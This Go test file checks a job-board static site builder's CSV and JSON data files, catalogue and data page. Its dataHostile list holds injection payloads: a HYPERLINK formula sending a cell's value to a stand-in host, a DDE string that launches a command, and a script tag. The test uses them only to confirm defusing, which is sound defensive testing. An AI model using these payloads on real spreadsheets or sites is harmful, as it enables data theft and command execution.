package site

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"maps"
	"os"
	"path"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"golang.org/x/net/html"

	"github.com/jobpulse/jobpulse/warehouse/pgtest"
)

// dataRows reads the data files of a query, path (from the site root)
// without its extension: the CSV and the JSON file must parse, have the
// same columns in the same order and the same rows, the CSV's text that a
// spreadsheet would take for a formula defused. It returns the rows of the
// JSON file, each value as text: numbers as written, null as "".
func dataRows(t *testing.T, out, path string) []map[string]string {
	t.Helper()
	header, csvRows := readCSV(t, filepath.Join(out, filepath.FromSlash(path+".csv")))
	keys, jsonRows := readJSONRows(t, filepath.Join(out, filepath.FromSlash(path+".json")))
	if len(jsonRows) > 0 && fmt.Sprint(keys) != fmt.Sprint(header) {
		t.Errorf("%s: JSON keys %q, CSV columns %q", path, keys, header)
	}
	if len(csvRows) != len(jsonRows) {
		t.Fatalf("%s: %d CSV rows, %d JSON rows", path, len(csvRows), len(jsonRows))
	}
	for i, rec := range csvRows {
		for j, col := range header {
			want := jsonRows[i][col]
			if _, isText := jsonRows[i]["\x00text:"+col]; isText {
				want = defuseFormula(want)
			}
			if rec[j] != want {
				t.Errorf("%s: row %d, column %s: CSV %q, JSON %q", path, i+1, col, rec[j], jsonRows[i][col])
			}
		}
		for k := range jsonRows[i] {
			if len(k) > 0 && k[0] == 0 {
				delete(jsonRows[i], k)
			}
		}
	}
	return jsonRows
}

// readCSV parses a CSV file strictly (RFC 4180, every record as long as
// the header) and returns its header and records.
func readCSV(t *testing.T, file string) ([]string, [][]string) {
	t.Helper()
	b, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	if bytes.HasPrefix(b, []byte("\ufeff")) {
		t.Errorf("%s starts with a byte order mark", file)
	}
	if len(b) > 0 && !bytes.HasSuffix(b, []byte("\r\n")) {
		t.Errorf("%s does not end with CRLF", file)
	}
	r := csv.NewReader(bytes.NewReader(b))
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatalf("%s: %v", file, err)
	}
	if len(recs) == 0 {
		t.Fatalf("%s: no header row", file)
	}
	return recs[0], recs[1:]
}

// readJSONRows parses a JSON data file: an array of objects, every one with
// the same keys in the same order. It returns the keys and the rows, each
// value as text; a key "\x00text:"+name marks a string value.
func readJSONRows(t *testing.T, file string) ([]string, []map[string]string) {
	t.Helper()
	b, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	if !json.Valid(b) {
		t.Fatalf("%s is not JSON", file)
	}
	dec := json.NewDecoder(bytes.NewReader(b))
	dec.UseNumber()
	var keys []string
	var rows []map[string]string
	expect := func(want json.Delim) {
		t.Helper()
		tok, err := dec.Token()
		if err != nil || tok != want {
			t.Fatalf("%s: got %v (%v), want %v", file, tok, err, want)
		}
	}
	expect('[')
	for dec.More() {
		expect('{')
		row := map[string]string{}
		var order []string
		for dec.More() {
			tok, err := dec.Token()
			if err != nil {
				t.Fatal(err)
			}
			k := tok.(string)
			if _, dup := row[k]; dup {
				t.Fatalf("%s: key %q twice in a row", file, k)
			}
			order = append(order, k)
			var v any
			if err := dec.Decode(&v); err != nil {
				t.Fatalf("%s: %v", file, err)
			}
			switch x := v.(type) {
			case nil:
				row[k] = ""
			case string:
				row[k] = x
				row["\x00text:"+k] = ""
			case json.Number:
				row[k] = x.String()
			case bool:
				row[k] = fmt.Sprint(x)
			default:
				t.Fatalf("%s: key %q holds %T, want a number, text, a boolean or null", file, k, v)
			}
		}
		expect('}')
		if keys == nil {
			keys = order
		} else if fmt.Sprint(keys) != fmt.Sprint(order) {
			t.Errorf("%s: keys %q, then %q", file, keys, order)
		}
		rows = append(rows, row)
	}
	expect(']')
	if _, err := dec.Token(); err != io.EOF {
		t.Errorf("%s: more after the array", file)
	}
	return keys, rows
}

// dataHostile are titles and places a job board could send to break a
// spreadsheet, a CSV parser or a page: formulas, quotes, commas, line
// breaks, a tab, markup.
var dataHostile = []string{
	`=HYPERLINK("http://evil.example/?q="&A1,"click")`,
	"+1-555-0100",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	"-2+3",
	`Senior "Go" Engineer, Berlin`,
	"line one\nline two, with a comma",
	"\tTabbed",
	`</script><script>alert(1)</script>`,
	"Backend Engineer",
}

// dataContent is a site of charts and tables of every kind of data file:
// a chart and a table of one query, a table of every column type, an empty
// result, a table that prose hides tonight, a chart of a long result drawn
// wide, and a page per role whose queries are split (by:) and run per page
// (:role).
var dataContent = map[string]string{
	"index.md": `---
title: Home
queries:
  titles: |
    SELECT title AS "Title", location_text AS "Place", count(*) AS "Postings"
    FROM postings GROUP BY 1, 2 ORDER BY 3 DESC, 1, 2
  typed: |
    SELECT 1::smallint AS small, 12345678901::bigint AS big, 2.5::numeric AS num, 3::numeric AS whole,
           0.25::float8 AS f, true AS flag, DATE '2026-11-29' AS day,
           TIMESTAMPTZ '2026-11-29 01:28:23+00' AS at, NULL::text AS missing, ARRAY['a', 'b'] AS tags,
           '-3'::text AS minus
  nothing: SELECT title AS "Title", 1 AS "Postings" FROM postings WHERE false
  hidden: SELECT 'shown some nights' AS "Note"
  long: |
    SELECT d AS "Day", s AS "Series", v AS "Value"
    FROM (VALUES ('a', 's1', 1), ('a', 's2', 2), ('b', 's1', 3)) AS x (d, s, v) ORDER BY 1, 2
---

# Home

` + "```chart\ntype: hbar\nquery: titles\nx: Title\ny: Postings\ntitle: Titles\n```\n\n" +
		"```table\nquery: titles\n```\n\n" +
		"```table\nquery: typed\n```\n\n" +
		"```table\nquery: nothing\n```\n\n" +
		":::if nothing\n```table\nquery: hidden\n```\n:::end\n\n" +
		"```chart\ntype: line\nquery: long\nx: Day\ny: Value\nseries: Series\n```\n",
	"roles/[role].md": `---
title: "{role}"
pages: roles
queries:
  roles: SELECT role FROM postings WHERE role <> '' GROUP BY role ORDER BY role
  titles: SELECT title AS "Title" FROM postings WHERE role = :role ORDER BY 1
  places:
    by: role
    sql: SELECT role, location_text AS "Place", count(*) AS "Postings" FROM postings GROUP BY 1, 2 ORDER BY 1, 2
---

` + "```table\nquery: titles\n```\n\n```chart\ntype: hbar\nquery: places\nx: Place\ny: Postings\n```\n\n" +
		"```table\nquery: places\ncolumns: [Place, Postings]\n```\n",
}

// buildData seeds the hostile postings, gives the first half the role
// Backend Engineer and the rest Data Analyst, builds dataContent and
// returns the output folder.
func buildData(t *testing.T) string {
	t.Helper()
	pool := pgtest.New(t)
	var ps []testPosting
	for i, h := range dataHostile {
		ps = append(ps, testPosting{Title: h, Location: dataHostile[len(dataHostile)-1-i]})
	}
	seedRun(t, pool, false, ps)
	if _, err := pool.Exec(context.Background(), `UPDATE postings
		SET role = CASE WHEN source_id::int <= 4 THEN 'Backend Engineer' ELSE 'Data Analyst' END`); err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	writeTree(t, dir, dataContent)
	cfg := testConfig(t)
	cfg.Content = dir
	if _, err := Build(context.Background(), pool, cfg, nil); err != nil {
		t.Fatal(err)
	}
	return cfg.Out
}

// TestBuildDataFiles builds dataContent and checks, on every page, that
// each chart and table links to the CSV and JSON files of its query beside
// the page (or, for a by: query of the pages per role, to its one file pair
// of every role's rows, roles/by-role.places.csv, with a title that says
// so), that they parse and agree, that a table shows the rows of its files
// (of its role's rows, for a role page's by: query), that hostile text round-trips (defused in the CSV), that every
// file is in the catalogue and on the data page, and the files of every
// column type, of an empty result and of a block prose hides.
func TestBuildDataFiles(t *testing.T) {
	out := buildData(t)
	linked := map[string]bool{} // data files the blocks link to, from the site root
	// The role of each page of roles/[role].md, whose by: query places has
	// one file pair for every role's rows.
	roleOf := map[string]string{"roles/backend-engineer/index.html": "Backend Engineer", "roles/data-analyst/index.html": "Data Analyst"}
	for _, page := range []string{"index.html", "roles/backend-engineer/index.html", "roles/data-analyst/index.html"} {
		doc := parseHTML(t, filepath.Join(out, filepath.FromSlash(page)))
		dir := path.Dir(page)
		for n := range doc.Descendants() {
			if n.Type != html.ElementNode || attr(n, "class") != "table-tools" {
				continue
			}
			var files []string
			for a := range n.Descendants() {
				if a.Type == html.ElementNode && a.Data == "a" && attr(a, "class") == "download" {
					if _, ok := attrOK(a, "download"); !ok {
						t.Errorf("%s: link to %s has no download attribute", page, attr(a, "href"))
					}
					files = append(files, path.Join(dir, attr(a, "href")))
				}
			}
			if len(files) == 0 {
				continue // a block of no rows links to its SQL only
			}
			if len(files) != 2 || strings.TrimSuffix(files[0], ".csv") != strings.TrimSuffix(files[1], ".json") {
				t.Errorf("%s: a block links to %q, want its query's .csv and .json", page, files)
				continue
			}
			base := strings.TrimSuffix(files[0], ".csv")
			linked[files[0]], linked[files[1]] = true, true
			rows := dataRows(t, out, base)
			if path.Base(base) == "by-role.places" {
				// Every role's rows: the page's are those of its role,
				// and its links say so.
				role := roleOf[page]
				if role == "" {
					t.Errorf("%s links to %s, the file of the pages per role", page, base)
				}
				var own []map[string]string
				for _, r := range rows {
					if r["role"] == role {
						own = append(own, r)
					} else if !slices.Contains(slices.Collect(maps.Values(roleOf)), r["role"]) {
						t.Errorf("%s: a row of role %q, which has no page", base, r["role"])
					}
				}
				if len(own) == 0 || len(own) == len(rows) {
					t.Errorf("%s: %d of its %d rows are of %s, want some but not all", base, len(own), len(rows), role)
				}
				rows = own
				for a := range n.Descendants() {
					if a.Type == html.ElementNode && a.Data == "a" && attr(a, "class") == "download" &&
						(!strings.Contains(attr(a, "title"), "role column") || !strings.Contains(nodeText(a), "every role's rows")) {
						t.Errorf("%s: the link to %s does not say it holds every role's rows: title %q, text %q",
							page, attr(a, "href"), attr(a, "title"), nodeText(a))
					}
				}
			}
			// A table's rows are its files' rows; a chart's data table
			// may be drawn wide (series), so only tables are compared.
			if block := n.Parent; block != nil && attr(block, "class") == "table-block" {
				compareTable(t, base, block, rows)
			}
		}
	}
	wantLinked := []string{
		"long.csv", "long.json",
		"roles/backend-engineer/titles.csv", "roles/backend-engineer/titles.json",
		"roles/by-role.places.csv", "roles/by-role.places.json",
		"roles/data-analyst/titles.csv", "roles/data-analyst/titles.json",
		"titles.csv", "titles.json", "typed.csv", "typed.json",
	}
	if diff := cmp.Diff(wantLinked, slices.Sorted(maps.Keys(linked))); diff != "" {
		t.Errorf("data files the blocks link to (-want +got):\n%s", diff)
	}

	t.Run("hostile text", func(t *testing.T) {
		rows := dataRows(t, out, "titles")
		var titles []string
		for _, r := range rows {
			titles = append(titles, r["Title"])
		}
		if diff := cmp.Diff(slices.Sorted(slices.Values(dataHostile)), slices.Sorted(slices.Values(titles))); diff != "" {
			t.Errorf("titles of titles.json (-want +got):\n%s", diff)
		}
		raw, err := os.ReadFile(filepath.Join(out, "titles.csv"))
		if err != nil {
			t.Fatal(err)
		}
		for _, want := range []string{
			`"'=HYPERLINK(""http://evil.example/?q=""&A1,""click"")"`,
			"'+1-555-0100,", "'@SUM(1+1)*cmd|' /C calc'!A0,", "'-2+3,", "'\tTabbed,",
			`"Senior ""Go"" Engineer, Berlin"`, "\"line one\r\nline two, with a comma\"",
		} {
			if !strings.Contains(string(raw), want) {
				t.Errorf("titles.csv has no %q:\n%s", want, raw)
			}
		}
	})

	t.Run("types", func(t *testing.T) {
		csvWant := "small,big,num,whole,f,flag,day,at,missing,tags,minus\r\n" +
			"1,12345678901,2.5,3,0.25,true,2026-11-29,2026-11-29T01:28:23Z,,\"a, b\",'-3\r\n"
		jsonWant := "[\n" + `{"small":1,"big":12345678901,"num":2.5,"whole":3,"f":0.25,"flag":true,"day":"2026-11-29",` +
			`"at":"2026-11-29T01:28:23Z","missing":null,"tags":"a, b","minus":"-3"}` + "\n]\n"
		for file, want := range map[string]string{"typed.csv": csvWant, "typed.json": jsonWant,
			"nothing.csv": "Title,Postings\r\n", "nothing.json": "[]\n", "hidden.csv": "Note\r\nshown some nights\r\n"} {
			got, err := os.ReadFile(filepath.Join(out, file))
			if err != nil {
				t.Error(err)
				continue
			}
			if diff := cmp.Diff(want, string(got)); diff != "" {
				t.Errorf("%s (-want +got):\n%s", file, diff)
			}
		}
	})

	t.Run("catalogue", func(t *testing.T) {
		cat := readCatalogue(t, out)
		listed := map[string]bool{}
		types := map[string]string{}
		for _, tb := range cat.Tables {
			for _, f := range tb.Files {
				listed[f.CSV], listed[f.JSON] = true, true
				header, recs := readCSV(t, filepath.Join(out, filepath.FromSlash(f.CSV)))
				var names []string
				for _, c := range tb.Columns {
					names = append(names, c.Name)
					types[tb.Query+"."+c.Name] = c.Type
				}
				if fmt.Sprint(names) != fmt.Sprint(header) || len(recs) != f.Rows {
					t.Errorf("%s: catalogue says columns %q and %d rows, the file has %q and %d", f.CSV, names, f.Rows, header, len(recs))
				}
				want := f.Page + tb.Query + ".csv"
				if tb.By != "" { // the one file of a by: query of the pages per role
					want = "roles/by-role." + tb.Query + ".csv"
					if f.Page != "roles/[role]/" || tb.Pages != f.Page || tb.By != "role" || len(tb.Files) != 1 {
						t.Errorf("catalogue: %s: pages %s, page %s, by %q, %d files; want one of roles/[role]/ by role",
							f.CSV, tb.Pages, f.Page, tb.By, len(tb.Files))
					}
				}
				if f.Page != "./" && f.CSV != want {
					t.Errorf("catalogue: %s is not %s", f.CSV, want)
				}
			}
		}
		if diff := cmp.Diff(dataFilesIn(t, out), slices.Sorted(maps.Keys(listed))); diff != "" {
			t.Errorf("data files written (-) and listed in %s (+):\n%s", dataCatalogue, diff)
		}
		wantTypes := map[string]string{
			"typed.small": "integer", "typed.big": "integer", "typed.num": "number", "typed.whole": "number",
			"typed.f": "number", "typed.flag": "boolean", "typed.day": "date", "typed.at": "datetime",
			"typed.missing": "string", "typed.tags": "string", "typed.minus": "string",
			"places.Postings": "integer", "places.role": "string", "titles.Postings": "integer",
		}
		for k, want := range wantTypes {
			if types[k] != want {
				t.Errorf("catalogue: %s is of type %q, want %q", k, types[k], want)
			}
		}
		if cat.Run == nil || *cat.Run != "20261129T012823Z-3f9a" || cat.Collected == nil || *cat.Collected != "2026-11-29T01:29:58Z" {
			t.Errorf("catalogue: run %v collected %v", cat.Run, cat.Collected)
		}
	})

	t.Run("data page", func(t *testing.T) {
		doc := parseHTML(t, filepath.Join(out, filepath.FromSlash(dataPageOut)))
		var got []string
		for n := range doc.Descendants() {
			if n.Type == html.ElementNode && n.Data == "td" {
				for a := range n.Descendants() {
					if a.Type == html.ElementNode && a.Data == "a" && path.Ext(attr(a, "href")) != "" {
						got = append(got, path.Join("data", attr(a, "href")))
					}
				}
			}
		}
		want := []string{"hidden.csv", "hidden.json", "long.csv", "long.json", "nothing.csv", "nothing.json",
			"titles.csv", "titles.json", "typed.csv", "typed.json",
			// the one file pair of a by: query of the pages per role, and
			// an example of a query run for each page
			"roles/by-role.places.csv", "roles/by-role.places.json",
			"roles/backend-engineer/titles.csv", "roles/backend-engineer/titles.json"}
		if diff := cmp.Diff(slices.Sorted(slices.Values(want)), slices.Sorted(slices.Values(got))); diff != "" {
			t.Errorf("files the data page links to (-want +got):\n%s", diff)
		}
		text := nodeText(doc)
		for _, s := range []string{"/roles/[role]/", "Title (string), Place (string), Postings (integer)", "RFC 4180"} {
			if !strings.Contains(text, s) {
				t.Errorf("the data page does not say %q", s)
			}
		}
		home := parseHTML(t, filepath.Join(out, "index.html"))
		if !slices.ContainsFunc(links(home), func(h string) bool { return h == "data/" }) {
			t.Errorf("the home page does not link to data/: %q", links(home))
		}
	})
}

// compareTable compares the rows a table block shows with its data file's
// rows: texts as they are, numbers by value.
func compareTable(t *testing.T, name string, block *html.Node, rows []map[string]string) {
	t.Helper()
	var cols []string
	var shown [][]string
	for n := range block.Descendants() {
		if n.Type != html.ElementNode {
			continue
		}
		switch n.Data {
		case "th":
			cols = append(cols, nodeText(n))
		case "tr":
			var cells []string
			for c := n.FirstChild; c != nil; c = c.NextSibling {
				if c.Type == html.ElementNode && c.Data == "td" {
					cells = append(cells, nodeText(c))
				}
			}
			if len(cells) > 0 {
				shown = append(shown, cells)
			}
		}
	}
	if len(shown) != len(rows) {
		t.Errorf("%s: the table shows %d rows, its files hold %d", name, len(shown), len(rows))
		return
	}
	for i, cells := range shown {
		for j, cell := range cells {
			v := rows[i][cols[j]]
			if at, err := time.Parse(time.RFC3339, v); err == nil {
				v = at.Format("2006-01-02 15:04 UTC")
			}
			if n, err := strconv.ParseFloat(v, 64); err == nil {
				v = formatValue(n)
			}
			if cell != v {
				t.Errorf("%s: row %d, column %s: the table shows %q, its files hold %q", name, i+1, cols[j], cell, rows[i][cols[j]])
			}
		}
	}
}

// readCatalogue reads data/index.json.
func readCatalogue(t *testing.T, out string) catalogue {
	t.Helper()
	b, err := os.ReadFile(filepath.Join(out, filepath.FromSlash(dataCatalogue)))
	if err != nil {
		t.Fatal(err)
	}
	var c catalogue
	dec := json.NewDecoder(bytes.NewReader(b))
	dec.DisallowUnknownFields()
	if err := dec.Decode(&c); err != nil {
		t.Fatalf("%s: %v", dataCatalogue, err)
	}
	return c
}

// dataFilesIn lists the data files of a built site: every .csv and .json
// file but the search index and the catalogue.
func dataFilesIn(t *testing.T, out string) []string {
	t.Helper()
	var files []string
	for name := range readTree(t, out) {
		if (path.Ext(name) == ".csv" || path.Ext(name) == ".json") && name != searchFile && name != dataCatalogue {
			files = append(files, name)
		}
	}
	slices.Sort(files)
	return files
}

// parseHTML parses a built page.
func parseHTML(t *testing.T, file string) *html.Node {
	t.Helper()
	b, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	doc, err := html.Parse(bytes.NewReader(b))
	if err != nil {
		t.Fatalf("%s: %v", file, err)
	}
	return doc
}

// links returns the href of every <a> of a page.
func links(doc *html.Node) []string {
	var hrefs []string
	for n := range doc.Descendants() {
		if n.Type == html.ElementNode && n.Data == "a" {
			hrefs = append(hrefs, attr(n, "href"))
		}
	}
	return hrefs
}

// attrOK returns an attribute of n and whether n has it.
func attrOK(n *html.Node, key string) (string, bool) {
	for _, a := range n.Attr {
		if a.Key == key {
			return a.Val, true
		}
	}
	return "", false
}

// TestBuildDataShape checks that the data files keep their addresses and
// columns on a night the queries find nothing: the same files, each with
// its header, listed with the same columns.
func TestBuildDataShape(t *testing.T) {
	pool := pgtest.New(t)
	seedRun(t, pool, false, []testPosting{{Title: "Go Developer", Location: "Berlin"}, {Title: "Data Analyst", Location: ""}})
	dir := t.TempDir()
	writeTree(t, dir, homeContent)
	cfg := testConfig(t)
	cfg.Content = dir
	shape := func() (files []string, columns map[string][]dataColumn) {
		t.Helper()
		if _, err := Build(context.Background(), pool, cfg, nil); err != nil {
			t.Fatal(err)
		}
		columns = map[string][]dataColumn{}
		for _, tb := range readCatalogue(t, cfg.Out).Tables {
			columns[tb.Pages+tb.Query] = tb.Columns
		}
		return dataFilesIn(t, cfg.Out), columns
	}
	files, columns := shape()
	if want := []string{"top_locations.csv", "top_locations.json", "top_titles.csv", "top_titles.json"}; !slices.Equal(files, want) {
		t.Errorf("data files %q, want %q", files, want)
	}
	if _, err := pool.Exec(context.Background(), "DELETE FROM postings"); err != nil {
		t.Fatal(err)
	}
	emptyFiles, emptyColumns := shape()
	if diff := cmp.Diff(files, emptyFiles); diff != "" {
		t.Errorf("data files of a night without postings (-before +after):\n%s", diff)
	}
	if diff := cmp.Diff(columns, emptyColumns); diff != "" {
		t.Errorf("columns of a night without postings (-before +after):\n%s", diff)
	}
	for _, f := range emptyFiles {
		if path.Ext(f) == ".json" {
			if rows := dataRows(t, cfg.Out, strings.TrimSuffix(f, ".json")); len(rows) != 0 {
				t.Errorf("%s: %d rows, want none", f, len(rows))
			}
		}
	}
}

// TestBuildDataErrors checks the pages whose data files the build refuses,
// each with a message that says what to change.
func TestBuildDataErrors(t *testing.T) {
	pool := pgtest.New(t)
	tests := []struct {
		name  string
		files map[string]string
		want  string
	}{
		{name: "a query of the home page named search", files: map[string]string{
			"index.md": "---\ntitle: Home\nqueries:\n  search: SELECT 1 AS n\n---\n\n```table\nquery: search\n```\n"},
			want: "index.md:4: query search: its data file search.json would replace the site's search index"},
		{name: "two columns of one name", files: map[string]string{
			"index.md": "---\ntitle: Home\nqueries:\n  twice: SELECT 1 AS n, 2 AS n\n---\n\n```table\nquery: twice\n```\n"},
			want: `index.md:4: query twice has two columns named "n"`},
		{name: "a page at the data page's URL", files: map[string]string{
			"index.md": "---\ntitle: Home\n---\n", "data.md": "---\ntitle: My data\n---\n"},
			want: "data.md: makes /data/, the URL of the data page"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dir := t.TempDir()
			writeTree(t, dir, tt.files)
			cfg := testConfig(t)
			cfg.Content = dir
			_, err := Build(context.Background(), pool, cfg, nil)
			if err == nil || !strings.Contains(err.Error(), tt.want) {
				t.Errorf("Build() = %v, want an error with %q", err, tt.want)
			}
		})
	}
}
